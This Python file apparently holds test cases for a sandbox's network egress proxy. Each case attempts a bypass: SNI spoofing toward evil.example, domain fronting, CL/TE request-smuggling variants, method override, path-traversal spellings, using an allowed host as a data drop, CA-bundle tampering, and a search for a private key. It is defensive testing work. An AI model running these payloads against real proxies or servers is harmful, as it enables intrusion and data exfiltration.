"""N and X for a box that has a network: what is said inside of a tunnel or a request that is allowed as such."""

from __future__ import annotations

from ringfence.box import NetworkRule
from ringfence.promises.case import Case, Control
from ringfence.promises.cases.egress import ONE, PROXY, SHARED, TOLD_NO
from ringfence.promises.judging import (
    answered,
    asked_for,
    carried_more_than,
    either,
    looked_up,
    network_denied,
    strayed,
)

NARROW = (NetworkRule("narrow", ("allowed.example",), methods=("GET",), paths=("/ok",)),)

INSIDE = (
    Case(
        "N52",
        "name another server in the TLS hello than the tunnel is for",
        "the tunnel ends before the hello leaves",
        PROXY + "say(False, tunnel('allowed.example:443', greeting(given['mark'] + '.evil.example')))",
        strayed,
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N53",
        "name no server in the TLS hello",
        "the tunnel ends before the hello leaves",
        PROXY + "say(False, tunnel('allowed.example:443', greeting(None)))",
        either(strayed, carried_more_than(0)),
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N54",
        "speak something else than TLS in a tunnel: HTTP, SSH, and a hello that is cut into pieces",
        "nothing of it leaves",
        PROXY
        + """
pieces = greeting(given["mark"] + ".evil.example")
mark = given["mark"].encode()
answers = [tunnel("allowed.example:443", b"GET /" + mark + b" HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"),
           tunnel("allowed.example:443", b"SSH-2.0-" + mark + b"\\r\\n")]
out, answer = connect("allowed.example:443")
with out:
    for n in range(0, len(pieces), 7):
        try:
            out.sendall(pieces[n:n + 7])
        except OSError:
            break
    heard(out)
say(False, ", ".join([*answers, answer]))
""",
        strayed,
        owed=(network_denied("one"),),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N55",
        "front: the URL is for an allowed host, the Host header for another",
        "403",
        PROXY + "answer = get('http://allowed.example/', 'evil.example')\nsay(answer == '200', answer)",
        strayed,
        owed=(answered("403"), network_denied("protocol")),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N56",
        "front inside of TLS: the tunnel is for an allowed host, the Host header in it for another",
        "403, since TLS ends at the proxy",
        PROXY
        + """
out, answer = connect("allowed.example:443")
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
with context.wrap_socket(out, server_hostname="allowed.example") as safe:
    safe.sendall(f"GET /ok HTTP/1.1\\r\\nHost: evil.example\\r\\nX-Mark: {given['mark']}\\r\\n\\r\\n".encode())
    answer = code(heard(safe))
say(answer == "200", answer)
""",
        strayed,
        owed=(answered("403"), network_denied("protocol")),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N57",
        "be sent on by an allowed host to one that is not",
        "403: a redirect is a new request",
        PROXY
        + """
with way() as out:
    out.sendall(b"GET http://allowed.example/redirect HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
    answer = heard(out)
place = answer.partition(b"Location: ")[2].partition(b"\\r")[0].decode()
answer = get(place) if place else "no redirect"
say(answer == "200", answer)
""",
        looked_up,
        owed=TOLD_NO,
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N58",
        "smuggle a second request in the body of the first",
        "refused: both sides must agree where a request ends",
        PROXY
        + """
hidden = "GET /smuggled HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
start = "GET http://allowed.example/ok HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
answers = [ask(start + more + "\\r\\n\\r\\n0\\r\\n\\r\\n" + hidden) for more in (
    f"Content-Length: {5 + len(hidden)}\\r\\nTransfer-Encoding: chunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nTransfer-Encoding:\\tchunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nTransfer-Encoding: xchunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nX: a\\r\\n Transfer-Encoding: chunked",
    f"Content-Length: {5 + len(hidden)}\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked, identity",
)]
say(False, ", ".join(answers))
""",
        asked_for(b"smuggled"),
        owed=(network_denied("protocol"),),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N59",
        "ask for another host on a connection that was opened for an allowed one",
        "each request is judged by itself",
        PROXY
        + """
with way() as out:
    out.sendall(b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
    first = code(heard(out))
    out.sendall(f"GET http://evil.example/{given['mark']} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n".encode())
    second = code(heard(out))
say(second == "200", f"{first}, {second}")
""",
        strayed,
        owed=TOLD_NO,
        network=ONE,
        control=SHARED,
    ),
)

GRANTS = (
    Case(
        "N60",
        "write where a rule lets read: other methods, also by headers that override the method",
        "403 for each",
        PROXY
        + """
override = "X-HTTP-Method-Override: DELETE\\r\\n"
answers = [get("http://allowed.example/ok", method=method) for method in ("POST", "PUT", "DELETE", "PATCH", "get")]
answers.append(get("http://allowed.example/ok", more=override))
say("200" in answers, ", ".join(answers))
""",
        strayed,
        owed=(answered("403"), network_denied("narrow")),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N61",
        "leave the path that a rule names, in spellings that servers take for another",
        "403 for each",
        PROXY
        + """
paths = ("/", "/other", "/okay", "/ok/../other", "/ok/%2e%2e/other", "/ok/%252e%252e/other", "/ok//../other",
         "/ok/..%2fother", "/ok\\\\..\\\\other", "/ok;/../other")
answers = [get(f"http://allowed.example{path}") for path in paths]
answers.append(get("http://allowed.example/ok", more="X-Original-URL: /other\\r\\n"))
say("200" in answers, ", ".join(answers))
""",
        strayed,
        owed=(answered("403"), network_denied("narrow")),
        network=NARROW,
        control=SHARED,
    ),
    Case(
        "N62",
        "use an allowed host as a drop for more than it may get",
        "not one byte over the budget",
        PROXY
        + """
body = b"x" * 5000
head = b"POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
answers = [ask(head + b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body) for _ in range(3)]
chunked = head + b"Transfer-Encoding: chunked\\r\\n\\r\\n"
answers.append(ask(chunked + b"1388\\r\\n" + body + b"\\r\\n0\\r\\n\\r\\n"))
say(False, ", ".join(answers))
""",
        carried_more_than(2000),
        owed=(network_denied("little"),),
        network=(NetworkRule("little", ("allowed.example",), max_bytes_out=2000),),
        control=SHARED,
    ),
    Case(
        "X40",
        "have the box trust somebody else: change the certificates that its run was given",
        "refused: the file is read-only",
        """
        bundle = "/run/ringfence/ca.pem"
        if not os.path.exists(bundle):
            bundle = given["canary"]
        def append():
            with open(bundle, "a") as file:
                file.write("x")
        any_of({"append": append, "remove": lambda: os.unlink(bundle),
                "move": lambda: os.rename(os.path.dirname(bundle), "/workspace/x")})
        """,
        network=NARROW,
    ),
    Case(
        "X41",
        "find the key of the authority that the box trusts",
        "no key is in its environment, files or memory",
        """
        wanted = b"-----BEGIN " + b"PRIVATE KEY"
        found = [name for name, value in os.environ.items() if wanted.decode() in value]
        bundle = os.environ.get("SSL_CERT_FILE")
        if bundle and wanted in open(bundle, "rb").read():
            found.append(bundle)
        if memory_of("self", b"-----BEGIN ", b"PRIVATE KEY-----\\n"):
            found.append("memory")
        say(bool(found), ", ".join(found) or "none")
        """,
        network=NARROW,
        control=Control(impossible="there is no such key where no box is"),
    ),
)

CASES = INSIDE + GRANTS
